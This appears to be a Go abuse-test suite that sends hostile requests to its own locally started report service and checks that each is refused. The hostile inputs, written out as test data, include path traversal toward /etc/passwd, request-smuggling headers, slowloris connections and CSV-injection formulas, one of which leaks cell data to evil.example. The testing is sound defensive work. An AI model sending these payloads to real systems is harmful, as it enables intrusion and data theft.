package main

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// The abuse suite sends hostile requests to the real service, a "geotag
// serve" child process on 127.0.0.1 (see startChild), and checks that each
// is answered with the right 4xx, that the service still answers ordinary
// requests quickly afterwards, and that its resident memory stays bounded.

// rssBytes returns the resident set size of process pid (Linux).
func rssBytes(t testing.TB, pid int) int64 { return procStatusBytes(t, pid, "VmRSS") }

// procStatusBytes returns a kB field of /proc/PID/status in bytes.
func procStatusBytes(t testing.TB, pid int, field string) int64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatalf("memory of the service: %v", err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		if rest, ok := strings.CutPrefix(line, field+":"); ok {
			kb, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
			if err != nil {
				t.Fatalf("%s %q: %v", field, rest, err)
			}
			return kb << 10
		}
	}
	t.Fatalf("no %s in /proc/%d/status", field, pid)
	return 0
}

// rawHTTP writes req to a fresh connection verbatim and returns the
// status code of the answer and its body.
func rawHTTP(t *testing.T, base, req string) (int, string) {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	if _, err := io.WriteString(conn, req); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("reading the answer to %.80q: %v", req, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// abuseDo sends one request with a body and headers ("Name: value") and
// returns the status and body.
func abuseDo(t *testing.T, method, u string, body io.Reader, headers ...string) (int, []byte) {
	t.Helper()
	req, err := http.NewRequest(method, u, body)
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range headers {
		k, v, _ := strings.Cut(h, ":")
		req.Header.Set(strings.TrimSpace(k), strings.TrimSpace(v))
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %.100s: %v", method, u, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, b
}

// responsive checks that the service answers a health check and a small
// query within a few seconds.
func responsive(t *testing.T, base string) {
	t.Helper()
	c := &http.Client{Timeout: 5 * time.Second}
	for _, p := range []string{"/healthz", "/api/v1/reports?limit=1"} {
		resp, err := c.Get(base + p)
		if err != nil {
			t.Fatalf("the service does not answer %s: %v", p, err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d", p, resp.StatusCode)
		}
	}
}

func TestAbuse(t *testing.T) {
	dir := t.TempDir()
	tokenFile := filepath.Join(dir, "admin-token")
	ch := startChild(t, filepath.Join(dir, "data"), "--admin-token-file", tokenFile, "--rate-ip", "-1", "--rate-token", "-1")
	tb, err := os.ReadFile(tokenFile)
	if err != nil {
		t.Fatal(err)
	}
	token := strings.TrimSpace(string(tb))
	auth := "Authorization: Bearer " + token
	jsonCT := "Content-Type: application/json"
	base := ch.base
	pid := ch.cmd.Process.Pid

	// A few ordinary reports so that queries have something to walk.
	for i := range 20 {
		body := fmt.Sprintf(`{"title":"report %d","text":"Shelling hit Aleppo and Idlib; aid reached Amman. %d"}`, i, i)
		if code, b := abuseDo(t, "POST", base+"/api/v1/reports", strings.NewReader(body), auth, jsonCT); code != http.StatusCreated {
			t.Fatalf("seed report: %d %s", code, b)
		}
	}
	rss0 := rssBytes(t, pid)

	type abuse struct {
		name    string
		method  string
		path    string
		body    func() io.Reader
		headers []string
		want    int
	}
	str := func(s string) func() io.Reader { return func() io.Reader { return strings.NewReader(s) } }
	big := func(n int) func() io.Reader {
		return func() io.Reader {
			return io.MultiReader(strings.NewReader(`{"title":"x","text":"`), io.LimitReader(repeatReader('a'), int64(n)), strings.NewReader(`"}`))
		}
	}
	nested := func(depth int) func() io.Reader {
		return str(`{"title":"x","text":"y","tags":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}`)
	}
	w := []string{auth, jsonCT}
	cases := []abuse{
		// Oversized bodies: declared and undeclared (chunked) lengths.
		{"body over the limit", "POST", "/api/v1/reports", big(2 << 20), w, 413},
		{"body over the limit, tag", "POST", "/api/v1/tag", big(2 << 20), w, 413},
		{"huge body, 64 MiB", "POST", "/api/v1/reports", big(64 << 20), w, 413},
		{"chunked body over the limit", "POST", "/api/v1/reports", func() io.Reader { return struct{ io.Reader }{big(2 << 20)()} }, w, 413},
		{"body over the limit, correction", "POST", "/api/v1/reports/x/corrections", big(2 << 20), w, 413},

		// Bulk import: its own larger limit, an item cap, media types.
		{"import over its limit", "POST", "/api/v1/import", big(33 << 20), w, 413},
		{"import of 10,001 reports", "POST", "/api/v1/import", str("[" + strings.Repeat(`{"text":"a"},`, 10_000) + `{"text":"a"}]`), w, 413},
		{"import invalid UTF-8", "POST", "/api/v1/import", str("[{\"text\":\"\xff\"}]"), w, 400},
		{"import nested", "POST", "/api/v1/import", str(strings.Repeat("[", 200_000)), w, 400},
		{"import as plain text", "POST", "/api/v1/import", str("title,text\nx,y\n"), []string{auth, "Content-Type: text/plain"}, 415},
		{"import CSV of 10,001 rows", "POST", "/api/v1/import", str("title\n" + strings.Repeat("a\n", 10_001)), []string{auth, "Content-Type: text/csv"}, 413},
		{"import CSV of 15 million blank rows", "POST", "/api/v1/import", str("title\n" + strings.Repeat(",\n", 15<<20)), []string{auth, "Content-Type: text/csv"}, 400},
		{"import CSV with an unterminated quote", "POST", "/api/v1/import", str("title\nok\n\"" + strings.Repeat("x", 1<<20)), []string{auth, "Content-Type: text/csv"}, 200},
		{"import GeoJSON of 10,001 features", "POST", "/api/v1/import", str(`{"type":"FeatureCollection","features":[` + strings.Repeat(`{"type":"Feature","properties":{"title":"a"}},`, 10_000) + `{"type":"Feature","properties":{"title":"a"}}]}`), []string{auth, "Content-Type: application/geo+json"}, 413},
		{"import NDJSON line of 8 MiB", "POST", "/api/v1/import", big(8 << 20), []string{auth, "Content-Type: application/x-ndjson"}, 200},

		// Malformed JSON.
		{"nested 100,000 deep", "POST", "/api/v1/reports", nested(100_000), w, 400},
		{"nested 500,000 deep, tag", "POST", "/api/v1/tag", str(strings.Repeat(`{"a":`, 150_000)), w, 400},
		{"invalid UTF-8 body", "POST", "/api/v1/reports", str("{\"title\":\"\xff\xfe\",\"text\":\"x\"}"), w, 400},
		{"invalid UTF-8 tag text", "POST", "/api/v1/tag", str("{\"text\":\"Aleppo \xc3\x28\"}"), w, 400},
		{"lone surrogate escape", "POST", "/api/v1/tag", str(`{"text":"Aleppo \ud800 Idlib"}`), w, 200},
		{"NaN", "POST", "/api/v1/reports", str(`{"title":"x","text":"y","location":{"lat":NaN,"lon":1}}`), w, 400},
		{"Infinity", "POST", "/api/v1/reports", str(`{"title":"x","text":"y","location":{"lat":1,"lon":Infinity}}`), w, 400},
		{"number overflow", "POST", "/api/v1/reports", str(`{"title":"x","text":"y","location":{"lat":1e400,"lon":1}}`), w, 400},
		{"out of range point", "POST", "/api/v1/reports", str(`{"title":"x","text":"y","location":{"lat":1e300,"lon":1}}`), w, 422},
		{"correction NaN", "POST", "/api/v1/reports/x/corrections", str(`{"action":"point","lat":NaN,"lon":0}`), w, 400},
		{"two JSON values", "POST", "/api/v1/reports", str(`{"title":"x"} {"title":"y"}`), w, 400},
		{"wrong type", "POST", "/api/v1/reports", str(`{"title":["x"]}`), w, 400},
		{"empty body", "POST", "/api/v1/reports", str(""), w, 400},
		{"not JSON media type", "POST", "/api/v1/reports", str(`{"title":"x"}`), []string{auth, "Content-Type: text/plain"}, 415},
		{"huge string field count", "POST", "/api/v1/reports", str(`{"title":"x","text":"y","tags":[` + strings.Repeat(`"t",`, 200_000) + `"t"]}`), w, 201},

		// Query parameters.
		{"huge limit", "GET", "/api/v1/reports?limit=1000000000", nil, nil, 200},
		{"limit overflow", "GET", "/api/v1/reports?limit=99999999999999999999999", nil, nil, 400},
		{"negative limit", "GET", "/api/v1/reports?limit=-5", nil, nil, 400},
		{"negative offset", "GET", "/ogc/collections/reports/items?offset=-1", nil, nil, 400},
		{"huge offset", "GET", "/ogc/collections/reports/items?offset=999999999999", nil, nil, 400},
		{"offset overflow", "GET", "/ogc/collections/reports/items?offset=99999999999999999999999", nil, nil, 400},
		{"OGC huge limit", "GET", "/ogc/collections/reports/items?limit=1000000000", nil, nil, 200},
		{"invalid UTF-8 query", "GET", "/api/v1/reports?q=%ff%fe", nil, nil, 400},
		{"invalid UTF-8 place search", "GET", "/api/v1/places?q=Alep%c3%28", nil, nil, 400},
		{"NaN bbox", "GET", "/api/v1/reports?bbox=NaN,0,1,1", nil, nil, 400},
		{"Inf bbox", "GET", "/api/v1/reports?bbox=-Inf,0,1,1", nil, nil, 400},
		{"bbox out of range", "GET", "/api/v1/reports?bbox=-999,0,1,1", nil, nil, 400},
		{"garbage cursor", "GET", "/api/v1/reports?cursor=%00%01zz", nil, nil, 400},
		{"huge zoom", "GET", "/api/v1/cells?zoom=99999999999", nil, nil, 400},
		{"negative zoom", "GET", "/api/v1/cells?zoom=-1", nil, nil, 400},
		{"bad datetime", "GET", "/api/v1/reports?datetime=2023-13-45T99:99:99Z", nil, nil, 400},
		{"bad place id", "GET", "/api/v1/places/99999999999999999999999", nil, nil, 400},
		{"place search limit", "GET", "/api/v1/places?q=Aleppo&limit=1000000", nil, nil, 400},
		{"long place search", "GET", "/api/v1/places?q=" + strings.Repeat("Aleppo%20", 3000), nil, nil, 200},
		{"unknown export format", "GET", "/api/v1/export/exe", nil, nil, 404},

		// Authentication.
		{"no token", "POST", "/api/v1/reports", str(`{"title":"x"}`), []string{jsonCT}, 401},
		{"bad token", "POST", "/api/v1/reports", str(`{"title":"x"}`), []string{jsonCT, "Authorization: Bearer gt_nope"}, 401},
		{"basic auth", "POST", "/api/v1/reports", str(`{"title":"x"}`), []string{jsonCT, "Authorization: Basic YWRtaW46YWRtaW4="}, 401},
		{"huge token", "POST", "/api/v1/reports", str(`{"title":"x"}`), []string{jsonCT, "Authorization: Bearer " + strings.Repeat("A", 60_000)}, 401},

		// Methods.
		{"TRACE", "TRACE", "/api/v1/reports", nil, nil, 405},
		{"DELETE on the collection", "DELETE", "/api/v1/reports", nil, []string{auth}, 405},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var body io.Reader
			if c.body != nil {
				body = c.body()
			}
			code, b := abuseDo(t, c.method, base+c.path, body, c.headers...)
			if code != c.want {
				t.Errorf("%s %.80s: %d, want %d: %.300s", c.method, c.path, code, c.want, b)
			}
			if code >= 400 && code < 500 {
				var p struct {
					Status int    `json:"status"`
					Detail string `json:"detail"`
				}
				if err := json.Unmarshal(b, &p); err != nil || p.Status != code {
					t.Errorf("%s: the error is not a problem+json with its status: %.300s", c.name, b)
				}
			}
		})
	}

	// Raw requests, which Go's client would normalise: traversal out of
	// the embedded page's tree, and malformed request lines and headers.
	raw := []struct {
		name string
		req  string
		want []int // any of
	}{
		{"dot-dot", "GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", []int{404, 400}},
		{"encoded dot-dot", "GET /%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", []int{404, 400}},
		{"encoded slash", "GET /js/..%2f..%2f..%2fgo.mod HTTP/1.1\r\nHost: x\r\n\r\n", []int{404, 400}},
		{"backslash", "GET /js/..\\..\\..\\go.mod HTTP/1.1\r\nHost: x\r\n\r\n", []int{404, 400}},
		{"encoded backslash", "GET /js/..%5c..%5cgo.mod HTTP/1.1\r\nHost: x\r\n\r\n", []int{404, 400}},
		{"NUL in path", "GET /index.html%00.js HTTP/1.1\r\nHost: x\r\n\r\n", []int{404, 400}},
		{"absolute file path", "GET /etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", []int{404}},
		{"double-encoded", "GET /%252e%252e/%252e%252e/etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", []int{404, 400}},
		{"source file", "GET /frontend.go HTTP/1.1\r\nHost: x\r\n\r\n", []int{404}},
		{"header too large", "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + strings.Repeat("a", 200<<10) + "\r\n\r\n", []int{431}},
		{"bad request line", "GET\r\n\r\n", []int{400}},
		{"smuggling: two lengths", "POST /api/v1/tag HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}", []int{400}},
		{"smuggling: length and chunked", "POST /api/v1/tag HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", []int{400}},
	}
	for _, c := range raw {
		t.Run("raw "+c.name, func(t *testing.T) {
			code, b := rawHTTP(t, base, c.req)
			ok := false
			for _, w := range c.want {
				ok = ok || code == w
			}
			if !ok {
				t.Errorf("%.80q: %d, want one of %v: %.200s", c.req, code, c.want, b)
			}
			if strings.Contains(b, "root:") || strings.Contains(b, "module github.com") || strings.Contains(b, "package server") {
				t.Errorf("%.80q leaked a file: %.200s", c.req, b)
			}
		})
	}
	responsive(t, base)
	t.Logf("service RSS %d MiB after the hostile requests", rssBytes(t, pid)>>20)

	t.Run("report limits", func(t *testing.T) {
		// One report with 40,000 tags held the write lock for 20 s; a tag
		// over 32 KiB was a 500 ("key too large"); an import row with
		// 30,000 tags took 9 s and a 1.9 MB text became a 120 MB record.
		// Each is now refused on its own with a 422, and the service
		// answers at once.
		many := make([]string, 40_000)
		for i := range many {
			many[i] = fmt.Sprint("tag-", i)
		}
		problem := func(what string, code int, b []byte, field string) {
			t.Helper()
			var p struct {
				Status int    `json:"status"`
				Field  string `json:"field"`
			}
			if err := json.Unmarshal(b, &p); code != 422 || err != nil || p.Status != 422 || p.Field != field {
				t.Errorf("%s: %d %.300s, want a 422 problem on %q", what, code, b, field)
			}
		}
		body, _ := json.Marshal(map[string]any{"title": "x", "text": "Aleppo", "tags": many})
		code, b := abuseDo(t, "POST", base+"/api/v1/reports", bytes.NewReader(body), w...)
		problem("40,000 tags", code, b, "tags")
		body, _ = json.Marshal(map[string]any{"title": "x", "text": "Aleppo", "tags": []string{strings.Repeat("t", 40<<10)}})
		code, b = abuseDo(t, "POST", base+"/api/v1/reports", bytes.NewReader(body), w...)
		problem("a 40 KiB tag", code, b, "tags")
		code, b = abuseDo(t, "PATCH", base+"/api/v1/reports/x", bytes.NewReader(body), w...)
		if code != 404 && code != 422 {
			t.Errorf("PATCH of a missing report with a 40 KiB tag: %d %.200s", code, b)
		}

		csvBody := "title,text,tags\nok,Aleppo,a\nbig,Idlib," + strings.Join(many[:30_000], ";") + "\n"
		code, b = abuseDo(t, "POST", base+"/api/v1/import", strings.NewReader(csvBody), auth, "Content-Type: text/csv")
		var res struct {
			Created int `json:"created"`
			Items   []struct {
				Status  int `json:"status"`
				Problem *struct {
					Field string `json:"field"`
				} `json:"problem"`
			} `json:"items"`
		}
		if err := json.Unmarshal(b, &res); code != 200 || err != nil || res.Created != 1 || len(res.Items) != 2 || res.Items[1].Status != 422 {
			t.Errorf("CSV import with a row of 30,000 tags: %d %.300s", code, b)
		}
		text, _ := json.Marshal(map[string]any{"title": "big", "text": strings.Repeat("Aleppo and Idlib. ", 110_000)})
		code, b = abuseDo(t, "POST", base+"/api/v1/import", bytes.NewReader(append(text, '\n')), auth, "Content-Type: application/x-ndjson")
		res.Items = nil
		if err := json.Unmarshal(b, &res); code != 200 || err != nil || len(res.Items) != 1 || res.Items[0].Status != 422 || res.Items[0].Problem.Field != "text" {
			t.Errorf("import of a 1.9 MB text: %d %.300s", code, b)
		}
		code, b = abuseDo(t, "GET", base+"/api/v1/tags?tag=a", nil)
		if code != 200 {
			t.Errorf("tag listing: %d %.200s", code, b)
		}
		responsive(t, base)
	})

	t.Run("CSV injection", func(t *testing.T) {
		payloads := []string{"=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
			"\t=1+1", "\r=1+1", `=HYPERLINK("http://evil.example/?leak="&A1,"click")`}
		for i, p := range payloads {
			body, _ := json.Marshal(map[string]any{"title": p, "text": p + " Aleppo", "tags": []string{p}, "external_id": fmt.Sprint("csv-", i)})
			if code, b := abuseDo(t, "POST", base+"/api/v1/reports", bytes.NewReader(body), auth, jsonCT); code != http.StatusCreated {
				t.Fatalf("create %q: %d %s", p, code, b)
			}
		}
		code, b := abuseDo(t, "GET", base+"/api/v1/export/csv?q=cmd", nil)
		if code != http.StatusOK {
			t.Fatalf("export: %d %s", code, b)
		}
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("export is not CSV: %v", err)
		}
		if len(rows) < 2 {
			t.Fatalf("export has no report rows:\n%s", b)
		}
		formulas := 0
		for _, row := range rows[1:] {
			for j, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					if _, err := strconv.ParseFloat(cell, 64); err == nil {
						continue // a number, like a negative longitude
					}
					t.Errorf("column %s holds a formula cell %q", rows[0][j], cell)
				}
				if strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'+") || strings.HasPrefix(cell, "'@") {
					formulas++
				}
			}
		}
		if formulas == 0 {
			t.Errorf("no defused cell in the export:\n%s", b)
		}
	})

	t.Run("slowloris", func(t *testing.T) {
		// Connections that send headers a byte every few hundred ms must
		// not stop others from being served, and the server must cut them
		// (ReadHeaderTimeout is 10s) rather than wait forever.
		const n = 100
		var conns []net.Conn
		for range n {
			conn, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
			if err != nil {
				t.Fatal(err)
			}
			conns = append(conns, conn)
			io.WriteString(conn, "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
		}
		defer func() {
			for _, c := range conns {
				c.Close()
			}
		}()
		responsive(t, base)
		start := time.Now()
		var wg sync.WaitGroup
		cut := make([]time.Duration, n)
		for i, conn := range conns {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for time.Since(start) < 40*time.Second {
					if _, err := conn.Write([]byte("a")); err != nil {
						break
					}
					conn.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
					var buf [512]byte
					if _, err := conn.Read(buf[:]); err != nil {
						if ne, ok := err.(net.Error); ok && ne.Timeout() {
							continue
						}
						break // the server closed or answered the connection
					}
					break
				}
				cut[i] = time.Since(start)
			}()
		}
		responsive(t, base)
		wg.Wait()
		for i, d := range cut {
			if d >= 40*time.Second {
				t.Errorf("slow connection %d was still open after %v", i, d)
				break
			}
		}
		responsive(t, base)
		t.Logf("service RSS %d MiB after slowloris", rssBytes(t, pid)>>20)
	})

	t.Run("many connections", func(t *testing.T) {
		// 1,000 concurrent clients, each with its own connection.
		const n = 1000
		var wg sync.WaitGroup
		var mu sync.Mutex
		codes := map[int]int{}
		var errs []error
		for i := range n {
			wg.Add(1)
			go func() {
				defer wg.Done()
				c := &http.Client{Timeout: 60 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
				u := base + "/api/v1/reports?limit=5&bbox=30,30,40,40"
				if i%3 == 0 {
					u = base + "/api/v1/places?q=" + url.QueryEscape("Alep")
				}
				resp, err := c.Get(u)
				mu.Lock()
				defer mu.Unlock()
				if err != nil {
					errs = append(errs, err)
					return
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				codes[resp.StatusCode]++
			}()
		}
		wg.Wait()
		if len(errs) > 0 {
			t.Errorf("%d of %d requests failed, first: %v", len(errs), n, errs[0])
		}
		if codes[200] != n-len(errs) {
			t.Errorf("answers: %v", codes)
		}
		responsive(t, base)
	})

	// Memory: everything above (64 MiB bodies, 150,000-deep JSON, a
	// thousand connections) must not have grown the service much.
	rss1 := rssBytes(t, pid)
	t.Logf("service RSS %d MiB after seeding, %d MiB after the abuse", rss0>>20, rss1>>20)
	if rss1 > rss0+384<<20 { // the 32 MiB import limit alone allows ~100 MiB of transient buffers
		t.Errorf("RSS grew from %d MiB to %d MiB", rss0>>20, rss1>>20)
	}
	if st := ch.stderr.String(); strings.Contains(st, "panic") {
		t.Errorf("the service logged a panic:\n%.2000s", st)
	}
}

// repeatReader is an endless stream of one byte.
type repeatReader byte

func (r repeatReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}
